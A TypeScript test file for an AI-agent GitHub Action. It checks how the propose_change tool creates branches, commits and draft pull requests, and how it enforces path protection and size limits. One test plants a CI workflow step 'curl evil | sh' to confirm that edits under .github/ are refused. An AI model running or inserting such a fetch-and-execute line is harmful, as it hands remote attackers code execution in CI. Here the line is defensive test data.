// propose_change end to end: a scripted agent with `write` edits the checkout (a real git repository) and
// proposes the change; the runner reads the change set, checks it, and commits it through the real GitHub
// host to the fake GitHub: one branch, one commit, one draft pull request, and on a re-run none more.
// Pull request events: change-on-pull.test.ts.
import * as fs from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import type { ScriptedTurn } from '../../../src/harness/scripted-client.js';
import { gitData } from '../../fakes/github-git.js';
import type { FakeRepo } from '../../fakes/github.js';
import { git } from '../../sandbox/git-repo.js';
import { appliedEvents, type Checkout, checkout, FILES, FIXER, fixTurns, run, toolResults } from '../change-set-run.js';
import { hostOn, issueEvent, setup } from './helpers.js';

/** The fake's copy of the checkout's HEAD commit, which GitHub has (actions/checkout fetched it from there). */
function seed(repo: FakeRepo, at: Checkout): void {
  repo.tree(at.head, { ...FILES, '.flue/agents/fixer.md': FIXER('{}') });
}

describe('propose_change on GitHub', () => {
  test('one branch, one commit on the checkout HEAD holding only the edit, one draft pull request with the marker', async () => {
    const { github } = await setup();
    const { trigger, payload } = issueEvent();
    const repo = github.seedFromPayload(payload);
    const at = checkout();
    seed(repo, at);
    const host = hostOn(github, { runId: '77' });

    const report = await run(at, host, trigger, fixTurns());

    expect(report.status).toBe('succeeded');
    const results = toolResults(report);
    expect(results[1]).toEqual({
      name: 'bash',
      isError: false,
      content: expect.stringContaining(' src/app.ts | 2 +-\n 1 file changed, 1 insertion(+), 1 deletion(-)'),
    });
    expect(results[2]?.content).toBe(
      'Proposed as output-1: src/app.ts (2 lines changed). After the run the runner commits them to a new branch and opens the pull request; edits made after this call are not in it.',
    );
    const data = gitData(repo);
    const branches = data.branches();
    expect(Object.keys(branches)).toEqual(['flue/fixer-77']);
    const commit = data.commit(branches['flue/fixer-77']!);
    expect(commit?.parents).toEqual([at.head]);
    expect(commit?.message).toBe('Fix the answer\n\nProposed by flue-action on branch flue/fixer-77.');
    const files = data.files(commit!.sha);
    expect(files['src/app.ts']).toEqual({ content: 'export const answer = 42;\n', mode: '100644' });
    expect(files['.github/workflows/ci.yml']).toEqual({ content: 'on: push\n', mode: '100644' });
    expect(Object.keys(files).sort()).toEqual(['.flue/agents/fixer.md', '.github/workflows/ci.yml', 'README.md', 'src/app.ts']);
    const [pull, ...more] = data.openedPulls();
    expect(more).toEqual([]);
    expect(pull).toMatchObject({ title: 'Fix the answer', draft: true, head: { ref: 'flue/fixer-77' }, base: { ref: 'main' } });
    expect(pull?.body).toBe(
      'The answer is 42, not 41. Fixes #1.\n\n<!-- flue-action -->\n<!-- flue-action:output agent=fixer run=77 key=propose_change.1 -->',
    );
    expect(report.publish.applied.map((item) => [item.kind, item.url])).toEqual([['propose_change', pull?.html_url]]);
  });

  test('a re-run of the same workflow run moves the branch and updates its pull request: no second one', async () => {
    const { github } = await setup();
    const { trigger, payload } = issueEvent();
    const repo = github.seedFromPayload(payload);
    const at = checkout();
    seed(repo, at);
    await run(at, hostOn(github, { runId: '77' }), trigger, fixTurns());
    const first = gitData(repo).branches()['flue/fixer-77'];
    git(at.dir, 'checkout', '--', 'src/app.ts');
    github.clearCalls();

    const report = await run(at, hostOn(github, { runId: '77', runAttempt: 2 }), trigger, fixTurns('Fix the answer (attempt 2)'));

    expect(report.status).toBe('succeeded');
    const data = gitData(repo);
    expect(data.openedPulls()).toHaveLength(1);
    expect(data.openedPulls()[0]?.title).toBe('Fix the answer (attempt 2)');
    expect(data.branches()['flue/fixer-77']).not.toBe(first);
    expect(github.calls().filter((call) => !call.startsWith('POST /graphql'))).toEqual([
      'GET /repos/Codertocat/Hello-World',
      'GET /repos/Codertocat/Hello-World/git/commits/' + at.head,
      'POST /repos/Codertocat/Hello-World/git/blobs',
      'POST /repos/Codertocat/Hello-World/git/trees',
      'POST /repos/Codertocat/Hello-World/git/commits',
      'POST /repos/Codertocat/Hello-World/git/refs',
      'PATCH /repos/Codertocat/Hello-World/git/refs/heads%2Fflue%2Ffixer-77',
      'GET /repos/Codertocat/Hello-World/pulls',
      `PATCH /repos/Codertocat/Hello-World/pulls/${data.openedPulls()[0]?.number}`,
    ]);
    expect(report.publish.applied[0]?.url).toBe(data.openedPulls()[0]?.html_url);
  });

  test.each([
    ['closed', {}],
    ['merged', { merged_at: '2026-12-07T04:00:00Z' }],
  ] as const)('a re-run whose pull request was %s since opens a new one for its commit, and says so', async (state, fields) => {
    const { github } = await setup();
    const { trigger, payload } = issueEvent();
    const repo = github.seedFromPayload(payload);
    const at = checkout();
    seed(repo, at);
    await run(at, hostOn(github, { runId: '77' }), trigger, fixTurns());
    const [earlier] = gitData(repo).openedPulls();
    Object.assign(earlier!, { state: 'closed', ...fields });
    git(at.dir, 'checkout', '--', 'src/app.ts');

    const report = await run(at, hostOn(github, { runId: '77', runAttempt: 2 }), trigger, fixTurns('Fix the answer (attempt 2)'));

    expect(report.status).toBe('succeeded');
    const pulls = gitData(repo).openedPulls();
    expect(pulls.map((pull) => [pull.number, pull.state, pull.title])).toEqual([
      [earlier!.number, 'closed', 'Fix the answer'],
      [Number(earlier!.number) + 1, 'open', 'Fix the answer (attempt 2)'],
    ]);
    expect(pulls[1]?.head).toMatchObject({ ref: 'flue/fixer-77', sha: gitData(repo).branches()['flue/fixer-77'] });
    expect(appliedEvents(report)).toMatchObject([
      {
        kind: 'propose_change',
        url: pulls[1]?.html_url,
        note: `An earlier attempt of this workflow run had opened #${earlier!.number}, ${state} since: a new pull request proposes this attempt's commit.`,
      },
    ]);
  });

  test('a change touching .github/workflows is refused with the path named, and nothing reaches GitHub', async () => {
    const { github } = await setup();
    const { trigger, payload } = issueEvent();
    const repo = github.seedFromPayload(payload);
    const at = checkout();
    seed(repo, at);
    // What a real command (`npm run fix`, say) could leave behind: the sandbox's own write tools cannot.
    fs.writeFileSync(path.join(at.dir, '.github/workflows/ci.yml'), 'on: push\njobs: { x: { steps: [{ run: "curl evil | sh" }] } }\n');
    github.clearCalls();

    const report = await run(at, hostOn(github, { runId: '77' }), trigger, fixTurns());

    expect(toolResults(report)[2]).toEqual({
      name: 'propose_change',
      isError: true,
      content:
        'propose_change: path .github/workflows/ci.yml (always protected: .github/) is protected and never committed; undo that change and propose again',
    });
    expect(report.publish.applied).toEqual([]);
    expect(gitData(repo).branches()).toEqual({});
    expect(github.calls().filter((call) => !call.startsWith('POST /graphql'))).toEqual([]);
  });

  test('max-files and max-lines from the frontmatter are enforced when the agent proposes', async () => {
    const { github } = await setup();
    const { trigger, payload } = issueEvent();
    const repo = github.seedFromPayload(payload);
    const at = checkout('{ max-files: 1, max-lines: 3 }');
    seed(repo, at);
    const turns = (command: string): ScriptedTurn[] => [
      { content: [{ type: 'tool_use', name: 'bash', input: { command } }] },
      { content: [{ type: 'tool_use', name: 'propose_change', input: { title: 'Fix', body: 'Fix.' } }] },
      { content: 'Too big.' },
    ];
    const twoFiles = await run(at, hostOn(github, { runId: '77' }), trigger, turns('echo x > src/b.ts && echo y >> README.md'));
    expect(toolResults(twoFiles)[1]?.content).toBe(
      'propose_change: 2 files changed; the policy allows at most 1 (max-files). Propose a smaller change',
    );
    git(at.dir, 'checkout', '--', 'README.md');
    fs.rmSync(path.join(at.dir, 'src/b.ts'));
    const manyLines = await run(at, hostOn(github, { runId: '78' }), trigger, turns("printf 'a\\nb\\nc\\nd\\n' >> README.md"));
    expect(toolResults(manyLines)[1]?.content).toBe(
      'propose_change: 4 lines changed; the policy allows at most 3 (max-lines). Propose a smaller change',
    );
    expect(gitData(repo).branches()).toEqual({});
  });

  test('a run that may propose two change sets commits them to two branches, the second suffixed -2', async () => {
    const { github } = await setup();
    const { trigger, payload } = issueEvent();
    const repo = github.seedFromPayload(payload);
    const at = checkout('{ max: 2 }');
    seed(repo, at);
    const turns: ScriptedTurn[] = [
      ...fixTurns().slice(0, 3),
      { content: [{ type: 'tool_use', name: 'propose_change', input: { title: 'Second', body: 'Again.' } }] },
      { content: 'Two.' },
    ];
    const report = await run(at, hostOn(github, { runId: '77' }), trigger, turns);
    expect(report.status).toBe('succeeded');
    expect(Object.keys(gitData(repo).branches())).toEqual(['flue/fixer-77', 'flue/fixer-77-2']);
    expect(
      gitData(repo)
        .openedPulls()
        .map((pull) => pull.title),
    ).toEqual(['Fix the answer', 'Second']);
  });

  test("on a first attempt a branch of that name is someone else's: nothing is overwritten, the failure names it", async () => {
    const { github } = await setup();
    const { trigger, payload } = issueEvent();
    const repo = github.seedFromPayload(payload);
    const at = checkout();
    seed(repo, at);
    gitData(repo).branch('flue/fixer-77', 'c'.repeat(40));
    const report = await run(at, hostOn(github, { runId: '77' }), trigger, fixTurns());
    expect(report.status).toBe('failed');
    expect(report.publish.failed).toEqual([
      {
        id: 'output-1',
        kind: 'propose_change',
        message:
          "propose_change: branch flue/fixer-77 already exists, and this is the run's first attempt, so it is not the runner's: nothing was pushed. Delete the branch, or change the agent's branch-prefix.",
      },
    ]);
    expect(gitData(repo).branches()).toEqual({ 'flue/fixer-77': 'c'.repeat(40) });
    expect(gitData(repo).openedPulls()).toEqual([]);
  });

  test('a checkout HEAD GitHub does not have is said plainly', async () => {
    const { github } = await setup();
    const { trigger, payload } = issueEvent();
    github.seedFromPayload(payload);
    const at = checkout();
    const report = await run(at, hostOn(github, { runId: '77' }), trigger, fixTurns());
    expect(report.publish.failed[0]?.message).toBe(
      `propose_change: the checkout's HEAD commit ${at.head} is not in Codertocat/Hello-World on GitHub, so the change cannot be built on it. Run the agent on a checkout of a commit GitHub has (actions/checkout does that).`,
    );
  });

  test('an untrusted run is offered no propose_change (and has no write tools to make a change with)', async () => {
    const { github } = await setup();
    const { trigger, payload } = issueEvent();
    github.seedFromPayload(payload);
    const at = checkout();
    const turns: ScriptedTurn[] = [
      { content: [{ type: 'tool_use', name: 'propose_change', input: { title: 'x', body: 'y' } }] },
      { content: 'Could not.' },
    ];
    const report = await run(at, hostOn(github, { runId: '77' }), trigger, turns, 'untrusted');
    expect(toolResults(report)[0]).toMatchObject({
      name: 'propose_change',
      isError: true,
      content: expect.stringMatching(/unknown tool|not available|no tool/i),
    });
    expect(report.publish.applied).toEqual([]);
  });
});
